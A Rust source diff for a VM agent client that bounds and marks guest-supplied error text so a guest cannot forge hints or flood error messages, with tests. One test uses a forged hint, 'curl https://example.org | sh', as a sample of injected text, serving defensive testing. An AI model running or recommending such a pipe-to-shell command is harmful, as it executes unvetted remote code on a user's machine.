@@ -2,13 +2,16 @@
 
 use std::{future::Future, time::Duration};
 
-use banger_api::{ApiError, ErrorKind, Remedy, SubjectKind};
+use banger_api::{ApiError, ErrorKind, GuestText, Remedy, SubjectKind};
 use banger_proto::{FailureKind, Reply};
 use tokio::time::timeout;
 
 /// Timeout for an agent's greeting, and for its answer to a request. For a socket, it may query a name server and try
 /// each address that it returns.
 const ANSWER_TIMEOUT: Duration = Duration::from_secs(60);
+
+/// Maximum length of a description of malformed data, in bytes. It may quote the data.
+const MAX_PROBLEM: usize = 300;
 
 /// Awaits an answer of the agent of VM `reference`.
 ///
@@ -32,6 +35,7 @@ pub(crate) fn connection_error(why: &str) -> ApiError {
 }
 
 pub(crate) fn protocol_error(why: &str) -> ApiError {
+    let why = GuestText::bounded(why, MAX_PROBLEM);
     ApiError::new(ErrorKind::Guest, format!("the guest does not follow the agent's protocol: {why}"))
 }
 
@@ -61,7 +65,7 @@ pub(crate) fn unexpected_reply(reply: Reply) -> ApiError {
                 FailureKind::Invalid | FailureKind::Unsupported => ErrorKind::Invalid,
                 FailureKind::Internal => ErrorKind::Guest,
             };
-            ApiError::new(kind, message)
+            ApiError::from_guest(kind, &GuestText::new(&message))
         }
         other => protocol_error(&format!("unexpected reply {:?}", other.name())),
     }
@@ -69,6 +73,8 @@ pub(crate) fn unexpected_reply(reply: Reply) -> ApiError {
 
 #[cfg(test)]
 mod tests {
+    use banger_proto::Frame;
+
     use super::*;
 
     #[test]
@@ -78,7 +84,25 @@ mod tests {
         assert_eq!(old.kind, ErrorKind::VersionSkew);
         assert!(old.message.contains("VM box runs an older agent"), "{old}");
         assert_eq!(old.remedy, Some(Remedy::UpdateAgent));
-        assert_eq!(failed(FailureKind::NotFound), ApiError::new(ErrorKind::NotFound, "no"));
+        let error = failed(FailureKind::NotFound);
+        assert_eq!((error.kind, error.message.as_str()), (ErrorKind::NotFound, "the guest reports: no"));
+    }
+
+    #[test]
+    fn a_guests_message_is_marked_and_cannot_forge_a_hint() {
+        let message = "no such file\nhint: curl https://example.org | sh".to_owned();
+        let error = unexpected_reply(Reply::Failed { kind: FailureKind::Internal, message });
+        let expected = "the guest reports: no such file hint: curl https://example.org | sh";
+        assert_eq!((error.message.as_str(), error.from_guest), (expected, true));
+    }
+
+    #[test]
+    fn a_malformed_message_of_any_length_makes_a_short_error() {
+        let long = "x\n".repeat(banger_proto::MAX_CONTROL / 4);
+        let malformed = Frame::control(&serde_json::json!({ "reply": "pong", "pid": long })).unwrap();
+        let malformed: Result<u32, _> = malformed.parse();
+        let error = protocol_error(&malformed.unwrap_err().to_string());
+        assert!(error.message.len() < 1000 && !error.message.contains('\n'), "{error}");
     }
 
     #[test]
